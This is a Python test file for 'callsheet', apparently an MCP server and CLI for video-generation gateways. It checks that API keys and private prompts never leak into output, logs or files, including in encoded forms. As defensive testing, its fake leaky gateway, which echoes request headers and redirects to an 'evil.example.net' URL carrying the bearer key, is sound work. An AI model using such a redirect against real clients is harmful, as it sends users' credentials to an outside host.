"""Nothing that leaves the program, is logged or lies on disk holds a key; logs hold nothing private at all.

A server process is driven over its pipes against a gateway that is out to leak: it echoes the request's
headers and body in every answer, redirects with the key in the address, and answers every fault. Then
every byte that came out, and every file, is searched for the planted values in all their spellings.
"""

from __future__ import annotations

import base64
import json
import os
import signal
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Iterator
from http.cookiejar import CookieJar
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from callsheet.core.security.redaction import variants
from warm_start import run, start
from workspace import account_of, command_for, trust

KEY = "Zq7-canary-key-5f1d0b92ae6c4783"
PROMPT = "canaryprompt a red kite over dunes"
IMAGE = "https://images.example.com/canaryimage/kite.png?sig=canarysig"
CALLBACK = "https://hooks.example.com/canaryhook"
PRIVATE = ("canaryprompt", "canaryimage", "canarysig", "canaryhook")
PIECE = 12


def leaks(data: bytes, secret: str = KEY) -> bool:
    """Whether any spelling of the secret, or any 12 characters of it, is in there; line breaks do not hide it."""
    text = data.decode("utf-8", "replace")
    tight = "".join(character for character in text if not character.isspace())
    pieces = {secret[start : start + PIECE] for start in range(len(secret) - PIECE + 1)}
    return any(needle in text or needle in tight for needle in (*variants(secret), *pieces))


PLANTED = {
    "plain": KEY,
    "in a sentence": f"the key is {KEY}.",
    "header": f"Authorization: Bearer {KEY}",
    "url-encoded": quote(f"key={KEY}&", safe=""),
    "base64": base64.b64encode(KEY.encode()).decode(),
    "base64 one off": base64.b64encode(b"x" + KEY.encode()).decode(),
    "base64 two off": base64.b64encode(b"xy" + KEY.encode()).decode(),
    "hex": KEY.encode().hex(),
    "HEX": KEY.encode().hex().upper(),
    "json": json.dumps({"key": KEY}),
    "cut": KEY[5:20],
    "wrapped": f"{KEY[:15]}\n  {KEY[15:]}",
}


@pytest.mark.parametrize("planted", PLANTED)
def test_the_search_finds_what_is_planted(planted: str) -> None:
    """A judge that is blind would find nothing either."""
    assert leaks(f"before {PLANTED[planted]} after".encode())


def test_the_search_does_not_cry_wolf() -> None:
    """Innocent text is innocent."""
    assert not leaks(b"callsheet sheet_abc task_0123456789abcdef canary key, poyo")


class Leaky(BaseHTTPRequestHandler):
    """A gateway that gives back what it was sent, in every way."""

    protocol_version = "HTTP/1.1"
    submissions = 0

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length", 0))).decode()
        echo = {"headers": dict(self.headers), "body": body, "key": self.headers.get("authorization", "")}
        type(self).submissions += 1
        answers: list[tuple[int, Any]] = [
            (400, {"code": 400, "error": {"message": f"bad request: {echo}", "type": "x"}}),
            (200, {"code": 200, "data": {"task_id": "task-unified-1-abc", "status": f"{echo['key']}"}}),
            (500, {"code": 500, "error": {"message": f"crash: {echo}", "type": "internal_error"}}),
            (200, {"code": 402, "error": {"message": f"no credits for {echo['key']}", "type": echo["key"]}}),
            (302, {}),
            (200, {"code": 200, "data": {"task_id": echo["key"].removeprefix("Bearer "), "status": "not_started"}}),
            (401, {"code": 401, "data": {"task_id": echo["key"].removeprefix("Bearer ")}}),
        ]
        self._answer(*answers[(self.submissions - 1) % len(answers)])

    def do_GET(self) -> None:
        key = self.headers.get("authorization", "")
        data = {"task_id": "task-unified-1-abc", "status": "failed", "files": [], "error_message": f"because {key}"}
        self._answer(200, {"code": 200, "data": data})

    def log_message(self, *_: object) -> None:
        """Its own log is not what is judged."""

    def _answer(self, code: int, body: object) -> None:
        content = json.dumps(body).encode()
        self.send_response(code)
        if code == 302:
            self.send_header("location", f"https://evil.example.net/?key={self.headers.get('authorization')}")
        self.send_header("content-length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)


class Session:
    """One MCP server process; everything that it says is kept."""

    def __init__(self, home: Path, errors: Path) -> None:
        self.stdout = b""
        self._id = 0
        keys = dict.fromkeys(("POYO_API_KEY", "APIDOT_API_KEY", "APIXO_API_KEY", "EVOLINK_API_KEY"), KEY)
        self._errors = errors.open("ab")
        self._process = start(
            command_for({"CALLSHEET_HOME": str(home)}, "mcp"),
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=self._errors,
            cwd="/",
            env={**os.environ, **keys, "CALLSHEET_HOME": str(home), "PYTHONFAULTHANDLER": "1"},
        )
        about = {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "leaks", "version": "1"}}
        self.ask("initialize", about)
        self._write({"jsonrpc": "2.0", "method": "notifications/initialized"})

    def ask(self, method: str, params: dict[str, Any]) -> dict[str, Any]:
        """Send a request, return its result or error."""
        self._id += 1
        self._write({"jsonrpc": "2.0", "id": self._id, "method": method, "params": params})
        while True:
            line = self._process.stdout.readline()
            assert line, "the server ended"
            self.stdout += line
            message = json.loads(line)
            if message.get("id") == self._id:
                return message.get("result") or message["error"]

    def call(self, tool: str, **arguments: Any) -> dict[str, Any]:
        """Call a tool; its structured content, or an empty answer for an error."""
        return self.ask("tools/call", {"name": tool, "arguments": arguments}).get("structuredContent") or {}

    def command_line(self) -> bytes:
        """What other users of the machine can read of the process."""
        place = Path(f"/proc/{self._process.pid}/cmdline")
        return place.read_bytes() if place.exists() else b""

    def close(self) -> None:
        """End it as a client does."""
        rest, _ = self._process.communicate(timeout=30)
        self.stdout += rest
        self._errors.close()

    def _write(self, message: dict[str, Any]) -> None:
        self._process.stdin.write(json.dumps(message).encode() + b"\n")
        self._process.stdin.flush()


@pytest.fixture
def leaky_gateway() -> Iterator[str]:
    """Its address."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Leaky)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def live_home(tmp_path: Path, address: str) -> Path:
    """A home in live mode that points PoYo at the leaky gateway and allows the callback host."""
    home = tmp_path / "home"
    policy = home / "config" / "policy.toml"
    policy.parent.mkdir(parents=True)
    policy.touch(mode=0o600)
    policy.write_text(
        f'mode = "live"\n[caps]\nper_clip = "none"\nper_day = "none"\nper_month = "none"\nconcurrent = 50\n'
        f'[hosts]\ncallback = ["hooks.example.com"]\n[gateways.poyo]\nbase_url = "{address}"\n',
        encoding="utf-8",
    )
    trust(home, policy.read_text(encoding="utf-8"))
    return home


def approve(home: Path, sheet_id: str) -> None:
    """What `callsheet approve` does once the passphrase was right."""
    code = (
        "import sys; from callsheet.compose import *; from callsheet.core.consent import Means;"
        "build_service(replace(Surroundings.of_process(), account_home=Path(sys.argv[2])))"
        ".approve(sys.argv[1], by=Means.TERMINAL)"
    )
    run(
        [sys.executable, "-c", code, sheet_id, str(account_of(home))],
        check=True,
        cwd="/",
        env={**os.environ, "CALLSHEET_HOME": str(home), "POYO_API_KEY": KEY},
    )


def run_command(home: Path, *arguments: str) -> bytes:
    """Everything that a command says."""
    done = run(
        command_for({"CALLSHEET_HOME": str(home)}, *arguments),
        cwd="/",
        stdin=subprocess.DEVNULL,
        env={**os.environ, "CALLSHEET_HOME": str(home), "POYO_API_KEY": KEY},
    )
    return done.stdout + done.stderr


def walk_desk(home: Path, sheet_id: str, task_ids: list[str]) -> bytes:
    """Everything that the desk answers and says: every page, with a session that its own address gave."""
    command = command_for({"CALLSHEET_HOME": str(home)}, "desk", "--no-open", "--json")
    env = {**os.environ, "CALLSHEET_HOME": str(home), "POYO_API_KEY": KEY}
    pages = ["", "tasks", "spending", "allowances", "passkeys", "audit", f"sheets/{sheet_id}"]
    with start(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd="/", env=env) as desk:
        line = desk.stdout.readline()
        url, _, bearer = json.loads(line)["url"].partition("#key=")
        browser = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(CookieJar()))
        origin = {"Origin": url.rstrip("/"), "Content-Type": "application/x-www-form-urlencoded"}
        answers = [browser.open(urllib.request.Request(f"{url}session", f"key={bearer}".encode(), origin))]
        answers += [browser.open(f"{url}{page}") for page in [*pages, *(f"tasks/{name}" for name in task_ids)]]
        told = b"".join(answer.read() + str(answer.headers).encode() for answer in answers)
        assert b"canaryprompt" in told
        desk.send_signal(signal.SIGINT)
        rest, errors = desk.communicate(timeout=30)
    assert not any(word.encode() in errors for word in PRIVATE)
    return told + line + rest + errors


def read_files(home: Path) -> list[tuple[Path, bytes]]:
    """Every file below a home."""
    return [(path, path.read_bytes()) for path in home.rglob("*") if path.is_file()]


@pytest.mark.slow
def test_no_output_and_no_file_holds_a_key_and_no_log_holds_anything_private(
    tmp_path: Path, leaky_gateway: str
) -> None:
    """Every tool, every kind of answer, command line and desk, the ledger with its log, every file."""
    home, errors = live_home(tmp_path, leaky_gateway), tmp_path / "stderr.txt"
    session = Session(home, errors)
    said = [session.command_line()]
    tasks = []
    for number in range(7):
        shot = {"prompt": f"{PROMPT} {number}", "image_url": IMAGE, "callback_url": CALLBACK}
        sheet = session.call("explain_payload", gateway="poyo", model="sora-2-official", duration_seconds=4, **shot)
        session.call("submit_video", sheet_id=sheet["sheet_id"])
        approve(home, sheet["sheet_id"])
        tasks.append(session.call("submit_video", sheet_id=sheet["sheet_id"]).get("task_id"))
    assert all(tasks)
    for task_id in tasks:
        session.call("get_task", task_id=task_id, wait_seconds=1)
        session.ask("resources/read", {"uri": f"callsheet://tasks/{task_id}"})
    session.call("list_tasks")
    session.call("list_models")
    session.call("explain_payload", prompt=f"film {KEY}")
    session.call("explain_payload", payload={"model": KEY, "input": {"prompt": KEY}})
    session.call("explain_payload", prompt="x", **{KEY: KEY})
    session.call("submit_video", sheet_id=KEY)
    session.call("get_task", task_id=KEY)
    waiting = session.call("explain_payload", gateway="poyo", model="sora-2-official", prompt=f"{PROMPT} waits")
    session.call("submit_video", sheet_id=waiting["sheet_id"])
    # While the server runs the ledger's write-ahead log is there too; afterwards it is folded in.
    files = read_files(home)
    session.close()
    commands = (
        ["doctor"],
        ["keys", "list"],
        ["audit"],
        ["allowances"],
        ["export"],
        ["list"],
        ["list", "--json"],
        ["get", tasks[0], "--json"],
        ["setup", "--show"],
    )
    said += [session.stdout, *(run_command(home, *command) for command in commands)]
    said.append(walk_desk(home, waiting["sheet_id"], tasks))

    assert Leaky.submissions >= 5
    assert [place for place in said if leaks(place)] == []
    files += read_files(home)
    assert any(path.name.endswith("-wal") for path, _ in files)
    assert [str(path) for path, content in files if leaks(content)] == []
    logged = errors.read_text(encoding="utf-8") + " ".join(str(path) for path, _ in files)
    assert not leaks(logged.encode())
    assert [word for word in PRIVATE if word in logged] == []
    assert all(json.loads(line)["jsonrpc"] == "2.0" for line in session.stdout.splitlines())
